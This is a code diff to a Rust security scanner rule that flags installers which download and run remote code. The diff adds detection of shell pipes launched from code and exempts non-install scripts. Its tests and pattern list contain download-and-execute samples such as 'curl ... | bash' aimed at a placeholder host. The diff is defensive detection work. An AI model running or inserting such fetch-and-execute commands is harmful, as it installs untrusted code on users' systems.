@@ -24,31 +24,14 @@ const EXECUTABLE: &[&str] = &[".exe", ".scr", ".bat", ".cmd", ".ps1", ".vbs", ".
 pub(crate) fn check(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
     let facts = ctx.facts;
     if is_script(ctx.file) {
+        // Scripts shipped for developers (CI, release) do not run at install.
+        if !ctx.place.install {
+            return;
+        }
         // A fetch piped into an interpreter, or a fetched file made executable or started.
         for (line, n) in &facts.strings {
             let l = line.to_ascii_lowercase();
-            let segments: Vec<&str> = l.split('|').map(str::trim).collect();
-            let piped = segments.windows(2).any(|w| {
-                let fetch = ["curl", "wget", "iwr", "invoke-webrequest", "invoke-restmethod"]
-                    .iter()
-                    .any(|f| w[0].starts_with(f) || w[0].contains(&format!(" {f} ")));
-                let program = w[1].split_whitespace().next().unwrap_or("").rsplit('/').next().unwrap_or("");
-                fetch
-                    && matches!(
-                        program,
-                        "sh" | "bash"
-                            | "zsh"
-                            | "python"
-                            | "python3"
-                            | "node"
-                            | "perl"
-                            | "ruby"
-                            | "iex"
-                            | "powershell"
-                            | "pwsh"
-                            | "invoke-expression"
-                    )
-            });
+            let piped = piped_into_shell(line);
             let fetch = l.contains("curl ")
                 || l.contains("wget ")
                 || l.contains("invoke-webrequest")
@@ -69,6 +52,11 @@ pub(crate) fn check(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
                 return;
             }
         }
+        return;
+    }
+    // A command line piped into a shell, run from code: `os.system("curl x | sh")`.
+    if let Some(c) = facts.calls_to(SPAWN).find(|c| c.first.as_deref().is_some_and(piped_into_shell)) {
+        out.push(Hit::new(&RULE, c.line, format!("{}({})", c.name, excerpt(c.first.as_deref().unwrap_or("")))));
         return;
     }
     let Some(net) = facts.calls_to(NETWORK).next() else { return };
@@ -101,6 +89,33 @@ pub(crate) fn check(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
     }
 }
 
+/// Whether a command line pipes a download into an interpreter.
+fn piped_into_shell(line: &str) -> bool {
+    let l = line.to_ascii_lowercase();
+    let segments: Vec<&str> = l.split('|').map(str::trim).collect();
+    segments.windows(2).any(|w| {
+        let fetch = ["curl", "wget", "iwr", "invoke-webrequest", "invoke-restmethod"]
+            .iter()
+            .any(|f| w[0].starts_with(f) || w[0].contains(&format!(" {f} ")));
+        let program = w[1].split_whitespace().next().unwrap_or("").rsplit('/').next().unwrap_or("");
+        fetch
+            && matches!(
+                program,
+                "sh" | "bash"
+                    | "zsh"
+                    | "python"
+                    | "python3"
+                    | "node"
+                    | "perl"
+                    | "ruby"
+                    | "iex"
+                    | "powershell"
+                    | "pwsh"
+                    | "invoke-expression"
+            )
+    })
+}
+
 fn excerpt(s: &str) -> String {
     s.chars().take(120).collect()
 }
@@ -112,7 +127,12 @@ mod tests {
     #[test]
     fn fires_on_droppers() {
         assert!(fired("install.sh", "curl -s http://x.example/p.sh | bash\n", INSTALL).contains(&"SA-007"));
+        assert!(
+            !fired("tools/ci.sh", "curl -s http://x.example/p.sh | bash\n", LIBRARY).contains(&"SA-007"),
+            "not at install"
+        );
         assert!(fired("install.sh", "curl x.example|python\n", INSTALL).contains(&"SA-007"));
+        assert!(fired("setup.py", "import os\nos.system('curl -s x.example/a | sh')\n", LIBRARY).contains(&"SA-007"));
         assert!(fired("setup.py", "import urllib.request, os\np='a.exe'\nurllib.request.urlretrieve('http://x.example/a.exe', p)\nos.startfile(p)\n", INSTALL).contains(&"SA-007"));
         assert!(
             fired("a.py", "import requests\nexec(requests.get('https://x.example/c').text)\n", LIBRARY)
